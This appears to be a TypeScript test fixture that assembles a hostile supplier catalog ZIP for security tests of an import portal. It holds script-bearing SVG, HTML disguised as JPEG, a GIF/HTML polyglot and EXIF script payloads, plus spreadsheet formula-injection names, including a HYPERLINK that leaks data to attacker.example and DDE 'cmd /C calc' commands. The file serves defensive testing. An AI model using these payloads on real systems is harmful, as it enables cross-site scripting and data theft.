// Files a hostile supplier might put in a catalog ZIP to get script running in the portal's
// origin when a buyer opens an image, and names that would run as formulas in a spreadsheet.
// Every payload calls home to /xss-ran and renames the page, so a test (or a browser) can tell.
import sharp from 'sharp';
import { handMadeZip } from '#tests/unit/imports/helpers.ts';

export const MARKER = 'xss-ran';
const SCRIPT = `<script>document.title='${MARKER}';fetch('/${MARKER}')</script>`;

/** An SVG drawing with a script in it: a browser runs it when the SVG is opened as a page. */
export const svgWithScript = Buffer.from(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">${SCRIPT}<rect width="40" height="30" fill="#c00"/></svg>`);

/** An HTML page named like a photo. */
export const htmlAsJpeg = Buffer.from(`<!doctype html><html><head><title>photo</title></head><body>${SCRIPT}</body></html>`);

/** A real GIF with an HTML page after its last byte: readable as an image and, sniffed, as a page. */
export async function gifHtmlPolyglot(): Promise<Buffer> {
  const gif = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#08c' } }).gif().toBuffer();
  return Buffer.concat([gif, Buffer.from(`<html><body>${SCRIPT}</body></html>`)]);
}

/** A real JPEG whose EXIF description holds the payload. */
export async function jpegWithHtmlMetadata(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 30, channels: 3, background: '#c80' } })
    .jpeg().withExif({ IFD0: { ImageDescription: SCRIPT, Artist: `<img src=x onerror="fetch('/${MARKER}')">` } }).toBuffer();
}

/** Names a spreadsheet would run as formulas: a link out, arithmetic, a DDE command, a tab-led one. */
export const FORMULA_NAMES = {
  'HX-1': '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for the price list")',
  'HX-2': '+1+cmd|\' /C calc\'!A0',
  'HX-3': '@SUM(1+1)*cmd|\' /C calc\'!A0',
  'HX-4': '-2+3+cmd|\' /C calc\'!A0',
} as const;

function csvCell(text: string): string {
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * The ZIP: a price list whose items use each file, with formula names, and one image name that is
 * itself a formula (it ends up in the problem report, which is a CSV the supplier opens).
 */
export async function hostileCatalogZip(): Promise<Buffer> {
  const rows: Array<[sku: string, name: string, image: string]> = [
    ['HX-1', FORMULA_NAMES['HX-1'], 'drawing.svg'],
    ['HX-2', FORMULA_NAMES['HX-2'], 'photo.jpg'],
    ['HX-3', FORMULA_NAMES['HX-3'], 'banner.gif'],
    ['HX-4', FORMULA_NAMES['HX-4'], 'tagged.jpg'],
    ['HX-5', 'Wood screw with an SVG named like a PNG', 'disguised.png'],
    ['HX-6', 'Wood screw with a formula for an image name', '=cmd|\' /C calc\'!A0.png'],
  ];
  const csv = 'SKU,Name,Price,Category,Image\n' + rows.map(([sku, name, image]) => [sku, csvCell(name), '4.20', 'Screws > Wood screws', csvCell(image)].join(',')).join('\n') + '\n';
  return handMadeZip([
    { name: 'prices.csv', data: Buffer.from(csv) },
    { name: 'drawing.svg', data: svgWithScript },
    { name: 'photo.jpg', data: htmlAsJpeg },
    { name: 'banner.gif', data: await gifHtmlPolyglot(), store: true },
    { name: 'tagged.jpg', data: await jpegWithHtmlMetadata(), store: true },
    { name: 'disguised.png', data: svgWithScript },
  ]);
}
